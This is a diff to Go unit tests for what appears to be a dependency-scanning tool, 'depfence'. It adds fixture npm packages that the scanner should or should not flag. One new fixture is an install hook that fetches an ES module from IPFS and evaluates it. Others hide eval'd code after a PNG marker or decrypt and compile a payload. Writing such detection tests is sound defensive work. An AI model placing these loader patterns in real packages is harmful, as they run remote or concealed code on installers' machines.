@@ -1,6 +1,7 @@
 package code
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/depfence/depfence/internal/finding"
@@ -23,6 +24,9 @@ func TestRemoteEval(t *testing.T) {
 		// the response reaches the Function through an error handler
 		{"error_handler_loader", map[string]string{"index.js": `const axios = require("axios"); const run = (e) => { const mk = (c) => new (Function.constructor)("require", c); mk(e)(require) }
 module.exports = async () => { try { await axios.get(url) } catch (err) { run(err.response.data.cookie) } }`}, finding.SeverityCritical},
+		// an ES module fetched at install and linked with vm
+		{"source_text_module_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node p.mjs"}}`,
+			"p.mjs": "import vm from 'node:vm'; const res = await fetch('https://ipfs.io/ipfs/bafy/p.mjs'); const src = await res.text(); const m = new vm.SourceTextModule(src); await m.link(() => {}); await m.evaluate()"}, finding.SeverityCritical},
 		// a module loader compiling the package's files, with no request
 		{"commonjs_wrapper", map[string]string{"index.js": `const fs = require("fs"); module.exports = p => { const m = { exports: {} }; new Function("exports", "require", "module", fs.readFileSync(p, "utf8"))(m.exports, require, m); return m.exports }`}, finding.SeverityNone},
 		// the same loader in a file that also makes requests (a CLI
@@ -48,6 +52,9 @@ func TestDecodeExecute(t *testing.T) {
 	rt.Check(t, DecodeExecute{}, []rt.Case{
 		{"decipher_compile", map[string]string{"index.js": `const c = require("crypto"); const d = c.createDecipheriv("aes-256-cbc", k, iv); const m = new module.constructor(); m._compile(d.update(p, "hex", "utf8"), "x")`}, finding.SeverityCritical},
 		{"eval_long_blob", map[string]string{"index.js": `eval(atob("` + blob + `"))`}, finding.SeverityCritical},
+		// a minified file: a credentials store's decryption far from a
+		// plugin loader on the same line is no decrypt-and-run
+		{"minified_far_apart", map[string]string{"index.js": `const A=require("crypto");class S{dec(t){const e=A.createDecipheriv(a,this.k,this.iv);return e.update(t,"hex","utf8")}}` + strings.Repeat(`function q(o){return o.map(x=>x*2).filter(Boolean)}`, 120) + `async function P(src){return (await import("data:text/javascript;base64,"+btoa(src))).default}`}, finding.SeverityNone},
 		// code hidden after an image's end marker
 		{"image_payload", map[string]string{"index.js": `const fs = require("fs"), path = require("path");
 const img = fs.readFileSync(path.join(__dirname, "assets", "logo.png")); eval(img.slice(img.indexOf("IEND") + 8).toString())`}, finding.SeverityCritical},
